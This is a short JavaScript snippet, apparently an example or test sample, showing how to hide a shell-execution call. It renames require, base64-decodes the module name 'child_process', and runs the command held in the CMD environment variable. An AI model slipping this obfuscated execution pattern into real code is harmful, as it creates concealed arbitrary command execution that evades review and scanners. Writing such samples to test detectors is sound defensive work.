// require renamed, then called with a decoded module name.
var load = require;
var cp = load(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());
cp.exec(process.env.CMD);
